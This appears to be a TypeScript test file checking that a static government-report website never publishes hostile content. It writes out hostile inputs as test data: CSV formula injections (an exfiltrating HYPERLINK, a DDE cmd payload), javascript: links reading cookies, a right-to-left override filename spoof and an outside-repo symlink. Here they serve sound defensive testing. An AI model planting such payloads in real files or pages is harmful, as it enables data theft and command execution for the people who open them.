/**
 * Nothing unsafe reaches what is published. Every payload of the hostile corpus
 * (test/unit/rusak/kasus.ts) is looked for in every published file, search index included:
 * - in the real dist/ that `npm test` builds;
 * - in a build of the fixture with what is neutralised rather than refused: a draft report with
 *   its placeholders and narrative (left out), formula-leading names (apostrophe in every CSV);
 * - after a build of the fixture with refused payloads in several files at once, which must stop
 *   before writing any page and name every file.
 */
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { barisCsv } from '../helpers/csv.ts';
import { KASUS_BERMUSUHAN } from '../unit/rusak/kasus.ts';
import { halamanHtml, semuaBerkas } from './alat.ts';
import { bangun } from './bangun.ts';

const FIXTURE = resolve('test/fixtures/konten-contoh');
const P = {
  instansi: 'content/instansi/dinas-contoh/instansi.json',
  lkjip: 'content/instansi/dinas-contoh/2022/lkjip.json',
  kota: 'content/wilayah/kota-contoh.json',
  narasi: 'content/instansi/dinas-contoh/2022/narasi',
};
const MUATAN = [...new Set(KASUS_BERMUSUHAN.flatMap((k) => (k.muatan ? [k.muatan] : [])))];
const RUMUS = '=HYPERLINK("https://contoh.invalid/?d="&A1;"klik")';
const RUMUS_SATUAN = "@SUM(1+1)*cmd|' /C calc'!A0";
const KONTROL = 'Data: BPS 2022, penanda-terbit-uji';
const PDF = resolve('test/fixtures/pdf/sintetis.pdf');
const TANGGAPAN = {
  temuan: 'dinas-contoh-2022-lkjip-rata-rata-0-tercetak-rata-rata',
  isi: 'Tanggapan sintetis penanda-tanggapan-uji.',
  tanggal: '2026-11-20',
  oleh: 'Sekretaris Dinas',
};

/** Every published file as text: pages, data, feeds, scripts, and Pagefind's gzipped index and fragments. */
function isiTerbit(dir: string): Map<string, string> {
  const out = new Map<string, string>();
  for (const f of semuaBerkas(dir)) {
    if (/\.(png|jpe?g|webp|avif|gif|ico|woff2?|ttf|wasm)$/.test(f)) continue;
    const b = readFileSync(f);
    out.set(f, (b[0] === 0x1f && b[1] === 0x8b ? gunzipSync(b) : b).toString('utf8'));
  }
  return out;
}

/** Which payloads a file holds; a binary file (a search index) is searched only for printable ones. */
const ditemukan = (isi: Map<string, string>, muatan: readonly string[]) =>
  [...isi].flatMap(([f, t]) => {
    // eslint-disable-next-line no-control-regex -- a control character is a payload only in text
    const dicari = t.includes('\0') ? muatan.filter((m) => !/[\u0000-\u001f]/.test(m)) : muatan;
    return dicari.filter((m) => t.includes(m)).map((m) => `${f}: ${JSON.stringify(m)}`);
  });

const ubahJson = (dir: string, p: string, ubah: (j: any) => void) => {
  const j = JSON.parse(readFileSync(join(dir, p), 'utf8'));
  ubah(j);
  writeFileSync(join(dir, p), JSON.stringify(j, null, 2));
};

const salinan = () => {
  const d = mkdtempSync(join(tmpdir(), 'kt-muatan-'));
  cpSync(join(FIXTURE, 'content'), join(d, 'content'), { recursive: true });
  return d;
};
const sementara: string[] = [];
afterAll(() => sementara.forEach((d) => rmSync(d, { recursive: true, force: true })));

describe('muatan tidak terbit (no payload is published)', () => {
  it('the corpus has payloads to look for', () => expect(MUATAN.length).toBeGreaterThan(30));

  it.skipIf(!existsSync(resolve('dist/index.html')))('the real site and its data hold none of them', () => {
    const isi = isiTerbit(resolve('dist'));
    expect(isi.size).toBeGreaterThan(50);
    expect(ditemukan(isi, MUATAN)).toEqual([]);
  });
});

describe('yang dinetralkan (what is neutralised rather than refused)', () => {
  const keluar = join(resolve('test-results'), `muatan-${process.pid}`);
  let isi: Map<string, string>;
  beforeAll(() => {
    const d = salinan();
    sementara.push(d, keluar);
    // a draft of the next year, with the corpus's draft payloads in its report and a narrative of it
    ubahJson(d, P.lkjip, (j) => {
      j.anggaran[0].baris[0].nama = RUMUS;
      j.pengukuran.indikator[1].satuan = RUMUS_SATUAN;
      j.catatan = KONTROL;
      // what an agency adds through the site: its own PDF and a response to a finding (synthetic)
      j.sumber.berkas_pdf = 'lkjip-2022.pdf';
      j.pengukuran.lokasi.halaman = 7;
      j.tanggapan = [TANGGAPAN];
    });
    cpSync(PDF, join(d, 'content/instansi/dinas-contoh/2022/lkjip-2022.pdf'));
    const draf = KASUS_BERMUSUHAN.find((k) => k.nama.startsWith('draf'))!.files();
    const laporanDraf = JSON.parse(String(draf.find((f) => f.path === P.lkjip)!.isi));
    mkdirSync(join(d, 'content/instansi/dinas-contoh/2023/narasi'), { recursive: true });
    writeFileSync(
      join(d, 'content/instansi/dinas-contoh/2023/lkjip.json'),
      JSON.stringify({ ...laporanDraf, tahun: 2023 }, null, 2),
    );
    writeFileSync(
      join(d, 'content/instansi/dinas-contoh/2023/narasi/bab-1.mdx'),
      String(draf.find((f) => f.path === `${P.narasi}/bab-1.mdx`)!.isi),
    );
    mkdirSync(resolve('test-results'), { recursive: true });
    bangun(keluar, { KINERJA_KONTEN: d }, true);
    isi = isiTerbit(keluar);
  }, 300_000);

  it('the build is complete, and the positive control shows the search finds published text', () => {
    expect(halamanHtml(keluar).length).toBeGreaterThan(5);
    expect(ditemukan(isi, [KONTROL]).length).toBeGreaterThan(0);
  });

  it('no payload of the corpus is published, the draft and its narrative included', () => {
    expect(ditemukan(isi, [...MUATAN, 'penanda-narasi-draf-uji'])).toEqual([]);
    expect(existsSync(join(keluar, 'instansi/dinas-contoh/2023'))).toBe(false);
    expect(existsSync(join(keluar, 'instansi/dinas-contoh/2022/index.html'))).toBe(true);
  });

  it("the agency's PDF is published at its stable path, and the report's paged locator links to its page", () => {
    expect(readFileSync(join(keluar, 'dokumen/dinas-contoh/2022/lkjip-2022.pdf'))).toEqual(readFileSync(PDF));
    const laporan = readFileSync(join(keluar, 'instansi/dinas-contoh/2022/index.html'), 'utf8');
    expect(laporan).toMatch(/href="[^"]*\/dokumen\/dinas-contoh\/2022\/lkjip-2022\.pdf#page=7"/);
    expect(laporan).toMatch(/href="[^"]*\/dokumen\/dinas-contoh\/2022\/lkjip-2022\.pdf">PDF yang disimpan instansi</);
  });

  it("the agency's response is beside its finding on the report page and /audit/, and in audit.csv", () => {
    for (const f of ['instansi/dinas-contoh/2022/index.html', 'audit/index.html']) {
      const html = readFileSync(join(keluar, f), 'utf8');
      const baris = html.slice(html.indexOf(`id="${TANGGAPAN.temuan}"`));
      expect(baris.slice(0, baris.search(/<\/(tr|li)>/)), f).toMatch(
        /Tanggapan instansi<\/strong> \(Sekretaris Dinas, 20 November 2026\)[\s\S]*penanda-tanggapan-uji/,
      );
    }
    const audit = isi.get(join(keluar, 'data/audit.csv'))!;
    expect(audit.split('\n').find((b) => b.includes(TANGGAPAN.temuan))).toContain(
      `${TANGGAPAN.isi},2026-11-20,Sekretaris Dinas`,
    );
  });

  it('no cell of a published CSV is a formula; the names keep their text behind an apostrophe', () => {
    const csvs = [...isi].filter(([f]) => f.endsWith('.csv'));
    expect(csvs.length).toBeGreaterThanOrEqual(3);
    const sel = csvs.flatMap(([, t]) => barisCsv(t).flat());
    expect(sel.filter((s) => /^\s*[=+\-@\t\r]/.test(s) && !/^[+-]?[\d.,]+%?$|^[-\s]+$/.test(s))).toEqual([]);
    expect(sel).toContain(`'${RUMUS}`);
    expect(sel).toContain(`'${RUMUS_SATUAN}`);
  });
});

describe('yang ditolak (what is refused stops the build before any page)', () => {
  it('several refused payloads at once: the build fails, names every file, writes no page', () => {
    const d = salinan();
    const luar = mkdtempSync(join(tmpdir(), 'kt-luar-'));
    const keluar = join(resolve('test-results'), `muatan-tolak-${process.pid}`);
    sementara.push(d, luar, keluar);
    const bab = (nama: string, badan: string) =>
      writeFileSync(join(d, P.narasi, `${nama}.mdx`), `---\nbab: ${nama}\njudul: Uji\n---\n${badan}\n`);
    bab('bab-1', 'Lihat [x](javascript\\:alert(document.domain)).');
    bab('bab-2', 'Lihat [x][a].\n\n[a]: javascript\\:alert(document.cookie)');
    bab('ikhtisar', 'Kepala Bidang (NIP 198503152010012004) menyusun laporan ini.');
    writeFileSync(join(luar, 'bab-3.mdx'), '---\nbab: bab-3\njudul: Luar\n---\nRAHASIA-DARI-LUAR-REPO\n');
    symlinkSync(luar, join(d, P.narasi, 'luar'));
    ubahJson(d, P.instansi, (j) => (j.nama = 'Dinas Contoh \u202efdp.exe'));
    ubahJson(d, P.lkjip, (j) => (j.sumber.berkas = 'ISI: penanda-isian-uji'));
    writeFileSync(
      join(d, P.kota),
      '{ "id": "kota-contoh", "nama": "Kota Contoh", "nama": "Kota Palsu", "tingkat": "kota", "induk": "provinsi-contoh" }',
    );
    // an unknown field whose name holds the override: the reports quote it
    writeFileSync(
      join(d, 'content/wilayah/provinsi-contoh.json'),
      '{ "id": "provinsi-contoh", "nama": "Provinsi Contoh", "tingkat": "provinsi", "catatan\u202e": "x" }',
    );
    let log = '';
    let gagal = false;
    try {
      bangun(keluar, { KINERJA_KONTEN: d });
    } catch (e) {
      gagal = true;
      const err = e as { stdout?: Buffer; stderr?: Buffer };
      log = `${err.stdout?.toString() ?? ''}${err.stderr?.toString() ?? ''}`;
    }
    expect(gagal).toBe(true);
    expect(log).toContain('build dihentikan');
    for (const f of [
      `${P.narasi}/bab-1.mdx`,
      `${P.narasi}/bab-2.mdx`,
      `${P.narasi}/ikhtisar.mdx`,
      `${P.narasi}/luar`,
      P.instansi,
      P.lkjip,
      P.kota,
      'content/wilayah/provinsi-contoh.json',
    ])
      expect(log, f).toContain(`GALAT (error)  ${f}`);
    // the log shows the invisible character as its code, never the character itself
    expect(log).toContain('⟨U+202E⟩');
    expect(log).not.toContain('\u202e');
    expect(existsSync(keluar) ? halamanHtml(keluar) : []).toEqual([]);
  }, 300_000);
});
